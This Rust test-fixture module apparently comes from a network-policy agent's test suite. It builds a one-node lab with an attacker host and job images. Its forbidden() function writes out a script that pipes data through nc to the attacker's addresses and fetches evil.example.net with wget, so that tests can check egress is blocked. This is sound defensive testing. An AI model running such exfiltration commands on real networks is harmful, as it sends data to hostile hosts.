//! A lab with one node, and the images and the order of a kubelet: what every suite of the agent begins with.

use std::time::Duration;

use anyhow::{Result, ensure};

use crate::agent::AgentSpec;
use crate::lab::{Lab, addresses};
use crate::node::{ContainerSpec, Image, Node, Options, Pod, PodSpec};
use crate::profile::Profile;
use crate::programs::{self, Program};

/// How long a barrier may take to come to its end.
const LIMIT: Duration = Duration::from_secs(30);
/// Where the attacker's host listens, and nobody may send.
pub const FORBIDDEN_PORT: u16 = 8443;

/// A lab with a node, and the images that its pods use.
#[derive(Debug)]
pub struct World {
    /// The node; ended before its lab.
    pub node: Node,
    /// The internet around it.
    pub lab: Lab,
    /// Busybox with the programs that jobs run: `client`, `probe`, `deluge`, `tamper`, `curl` and `nft`.
    pub job: Image,
    barrier: Image,
}

impl World {
    /// Starts the node and imports the images.
    pub fn new(options: &Options) -> Result<Self> {
        let lab = Lab::new()?;
        lab.attacker.listen(FORBIDDEN_PORT)?;
        let job = Image::busybox("job")
            .program(Program::StaticClient.path()?, "/bin/client")
            .program(Program::Probe.path()?, "/bin/probe")
            .program(Program::Deluge.path()?, "/bin/deluge")
            .program(Program::Tamper.path()?, "/bin/tamper")
            .program("/usr/sbin/nft", "/bin/nft")
            .program("/usr/bin/curl", "/bin/curl");
        let barrier = Image::busybox("weir-initc")
            .program(programs::target_folder()?.join("weir-initc"), "/bin/weir-initc");
        let images = vec![job.clone(), barrier.clone()];
        let node = Node::start(&lab, &Options { images, ..options.clone() })?;
        Ok(Self { node, lab, job, barrier })
    }

    /// The barrier of a pod, which gives up after so many seconds, or later in a machine that is emulated.
    #[must_use]
    pub fn barrier(&self, pod: &PodSpec, seconds: u64) -> ContainerSpec {
        ContainerSpec::barrier(&self.barrier, &pod.uid, Duration::from_secs(seconds))
    }

    /// A pod as the kubelet starts it: the barrier to its end, before anything else.
    pub fn pod(&self, spec: PodSpec) -> Result<Pod> {
        let pod = self.node.run_pod(spec)?;
        self.pass_barrier(&pod)?;
        Ok(pod)
    }

    /// Runs the barrier of a pod that has its sandbox; it must pass.
    pub fn pass_barrier(&self, pod: &Pod) -> Result<()> {
        let barrier = pod.start(self.barrier(pod.spec(), 20))?;
        let code = barrier.wait(LIMIT)?;
        ensure!(code == 0, "the barrier: {}", barrier.logs()?);
        Ok(())
    }

    /// A job's container that runs `script`.
    #[must_use]
    pub fn shell(&self, name: &str, script: &str) -> ContainerSpec {
        ContainerSpec::new(name, &self.job).shell(script)
    }

    /// Runs `script` as the job of `pod` to its end, with exit code 0; what it wrote.
    pub fn run(&self, pod: &Pod, script: &str) -> Result<String> {
        let container = pod.start(self.shell("build", script))?;
        let said = container.expect(0)?;
        // The name is free again for the next script.
        container.remove()?;
        Ok(said)
    }
}

/// Allows pods of the namespace `ci` the lab's file server by its name.
#[must_use]
pub fn files_allowed() -> AgentSpec {
    let profile = Profile::deny_all().domains_at(&["files.example.com"], &["80"]);
    AgentSpec::default().namespace("ci", &profile.text())
}

/// What every job tries first, as a script: to reach the attacker over both families, and by a name.
#[must_use]
pub fn forbidden() -> String {
    let (v4, v6) = (addresses::ATTACKER.v4, addresses::ATTACKER.v6);
    format!(
        "echo leak | nc -w 1 {v4} {FORBIDDEN_PORT}; echo leak | nc -w 1 {v6} {FORBIDDEN_PORT}; \
         wget -T 2 -q -O - http://evil.example.net/; true"
    )
}
